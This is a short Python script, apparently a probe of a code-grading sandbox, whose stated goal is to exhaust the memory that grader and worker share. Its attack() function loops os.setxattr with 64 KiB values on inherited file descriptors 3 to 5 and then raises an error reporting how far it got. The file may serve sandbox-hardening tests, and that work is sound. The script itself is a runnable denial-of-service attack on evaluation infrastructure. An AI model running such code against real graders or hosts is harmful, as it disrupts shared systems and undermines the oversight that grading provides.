"""Goal: fill memory with extended attributes of the memory that grader and worker share.

Without a sandbox: unsafe
"""

import os,time


def attack():
    out=[]
    for descriptor in range(3, 6):
        t=time.time(); n=0
        value = bytes(1 << 16)
        try:
            while time.time()-t<0.8:
                os.setxattr(descriptor, f"user.{n}", value); n+=1
        except OSError as error:
            out.append(error)
        out.append((descriptor,n))
    raise RuntimeError(f"stopped by: {out!r}")


attack()
